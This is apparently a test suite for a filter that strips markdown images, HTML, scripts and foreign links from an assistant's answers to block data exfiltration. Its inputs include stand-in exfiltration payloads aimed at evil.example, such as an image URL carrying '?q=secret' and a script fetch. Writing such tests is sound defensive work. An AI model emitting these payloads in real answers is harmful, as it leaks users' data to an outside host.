import fc from 'fast-check';
import { filterAnswer } from './answer-filter';

const passages = [{ text: 'Read https://docs.pellworth.example/api for more.' }];

describe('filterAnswer', () => {
  it.each([
    ['an image', 'Look ![chart](https://evil.example/?q=secret) here', 'Look chart here'],
    ['an image by reference', '![x][1]\n\n[1]: https://evil.example/a', 'x'],
    ['raw HTML', 'Hello <img src="https://evil.example/x"> <b>you</b>', 'Hello  you'],
    ['a script with its content', 'a<script>fetch("https://evil.example")</script>b', 'ab'],
    ['an HTML comment', 'a<!-- hidden -->b', 'ab'],
    ['a foreign link, keeping its words', 'See [the page](https://evil.example/x).', 'See the page.'],
    ['a bare foreign address', 'Go to https://evil.example/?d=1.', 'Go to [link removed].'],
    ['an automatic link', '<https://evil.example>', '<[link removed]>'],
    ['a data address', 'data:text/html,hi', '[link removed]'],
    ['a tag that appears when another is taken away', '<i<b>mg src=x>', ''],
  ])('removes %s', (_what, text, expected) => {
    expect(filterAnswer(text, passages)).toBe(expected);
  });

  it('keeps an address that stands in the documents', () => {
    expect(filterAnswer('See https://docs.pellworth.example/api.', passages)).toBe('See https://docs.pellworth.example/api.');
  });

  it('keeps angle brackets that are not HTML', () => {
    expect(filterAnswer('Send Authorization: Bearer <access_token>, if a < b.', passages)).toBe(
      'Send Authorization: Bearer <access_token>, if a < b.',
    );
  });

  it('leaves nothing a browser would fetch, and is done after one pass', () => {
    const piece = fc.constantFrom(
      '![',
      '](',
      ')',
      '[a]',
      '<img',
      ' src=',
      '>',
      'https://evil.example/q',
      '[x]: ',
      '\n',
      '<!--',
      '-->',
      'www.evil.example',
      ' text ',
      '<b>',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const filtered = filterAnswer(pieces.join(''), []);
        expect(filtered).not.toMatch(/https?:\/\/|www\.|<img[\s/>]|!\[[^\]]*\]\(/i);
        expect(filterAnswer(filtered, [])).toBe(filtered);
      }),
      { numRuns: 500 },
    );
  });
});
